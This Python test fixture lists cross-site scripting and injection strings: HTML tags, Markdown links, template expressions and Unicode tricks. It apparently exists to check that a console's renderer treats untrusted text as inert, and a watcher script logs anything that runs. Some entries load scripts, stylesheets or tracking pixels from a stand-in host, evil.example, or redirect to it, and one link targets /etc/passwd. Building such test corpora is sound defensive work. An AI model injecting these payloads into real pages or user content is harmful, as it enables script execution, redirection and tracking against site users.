"""Texts that want to run in a page: each would call `window.ran()`, open a dialog, load something
from elsewhere or lead away, if any part of the console took it for more than a text."""

from __future__ import annotations

from typing import Final

_DO: Final = "window.ran()"

ELEMENTS: Final = [
    f"<script>{_DO}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{_DO}",
    f"</script><script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f'"><img src=x onerror="{_DO}">',
    f"'><svg/onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    f"<image href='1' onerror='{_DO}' /></svg>#x\">",
    f"<body onload={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<video><source onerror={_DO}>",
    f"<audio src=x onerror={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<textarea autofocus onfocus={_DO}></textarea>",
    f"</textarea><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"<iframe src=javascript:{_DO}></iframe>",
    f'<iframe srcdoc="<script>parent.{_DO}</script>"></iframe>',
    f"<object data=javascript:{_DO}></object>",
    f"<embed src=javascript:{_DO}>",
    f"<form action=javascript:{_DO}><button>go</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}></style>",
    f'<noscript><p title="</noscript><img src=x onerror={_DO}>">',
    f"<template><script>{_DO}</script></template>",
    f"<marquee onstart={_DO}>",
    f"<style>@import '//evil.example/x.css';</style><b onmouseover={_DO}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<base href=//evil.example/>",
    "<img src=//evil.example/pixel.gif>",
    f"<a href=javascript:{_DO}>click</a>",
    f"<x contenteditable onblur={_DO} tabindex=1>lose</x>",
    f"<!--><img src=x onerror={_DO}>-->",
    f"<![CDATA[<script>{_DO}</script>]]>",
    f"<scr\x00ipt>{_DO}</scr\x00ipt>",
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={_DO}&#62;",
]

MARKDOWN: Final = [
    f"[click](javascript:{_DO})",
    f"[click](JaVaScRiPt:{_DO})",
    f"[click](\x01javascript:{_DO})",
    f"[click](java\nscript:{_DO})",
    f"[click](data:text/html,<script>{_DO}</script>)",
    f"[click](vbscript:{_DO})",
    f"[click](blob:{_DO})",
    f"[click](file:///etc/passwd?{_DO})",
    "[click](//evil.example/)",
    f"![x](javascript:{_DO})",
    f'![x](x"onerror="{_DO})',
    "![pixel](https://evil.example/pixel.gif)",
    f"<javascript:{_DO}>",
    f"[a]: javascript:{_DO}\n[a]",
    f'[a](https://ok.example/"onmouseover="{_DO})',
    f"[a](https://ok.example/'onmouseover='{_DO})",
    f"`<script>{_DO}</script>`",
    f"```html\n<script>{_DO}</script>\n```",
    f"~~~\n</code></pre><script>{_DO}</script>\n~~~",
    f"**<img src=x onerror={_DO}>**",
    f"*<svg onload={_DO}>* and _<b onclick={_DO}>_",
    f"> <iframe src=javascript:{_DO}>",
    f"- <img src=x onerror={_DO}>\n- [x](javascript:{_DO})",
    f"| a | <img src=x onerror={_DO}> |\n| --- | --- |\n| [x](javascript:{_DO}) | 1 |",
    f"# <script>{_DO}</script>",
    f"https://ok.example/<script>{_DO}</script>",
    f'https://ok.example/"onclick="{_DO}',
    f"$\\href{{javascript:{_DO}}}{{x}}$",
]

CODE: Final = [
    f"';{_DO};//",
    f'";{_DO};//',
    f"`;{_DO};//",
    f"${{{_DO}}}",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"{{{{{_DO}}}}}",
    f"#{{{_DO}}}",
    f"<%= {_DO} %>",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+{_DO}'>",
    "__proto__",
    "constructor",
    "toString",
    "\u202e)(nar.wodniw\u202c",
    "ab\u200bcd \u2066evil\u2069 \ufeff",
    "\ud800 half",
    "p\u0430ypal",
    "\u0000\u0007\u001b[31m",
]

CORPUS: Final = ELEMENTS + MARKDOWN + CODE

WATCH: Final = """
window.__ran = [];
window.ran = () => window.__ran.push(new Error().stack);
window.alert = window.confirm = window.prompt = (text) => { window.__ran.push(`dialog ${text}`); };
"""
"""Put into a page before its own scripts: remembers what ran."""
